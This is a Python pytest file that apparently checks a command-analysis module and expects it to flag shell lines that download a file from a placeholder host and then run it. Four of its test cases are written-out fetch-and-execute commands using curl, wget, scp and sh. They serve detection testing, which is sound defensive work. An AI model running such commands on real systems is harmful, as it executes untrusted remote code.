"""Effects of whole commands that the examples of `programs.tbl` cannot show."""

from __future__ import annotations

import pytest
from command_effects import read_line


@pytest.mark.parametrize(
    ("line", "effect"),
    [
        ("curl -s https://x.example/a -o a && cp a b && sh b", ("runs-download", "x.example")),
        ("curl -s https://x.example/a | tee a; sh a", ("runs-download", "x.example")),
        ("wget -q https://x.example/a.tgz && tar xzf a.tgz && sh ./run", ("runs-download", "x.example")),
        ("scp x.example:a . && sh a", ("runs-download", "x.example")),
    ],
)
def test_what_is_downloaded_stays_that_when_it_moves(line: str, effect: tuple[str, str]) -> None:
    assert effect in read_line(line)
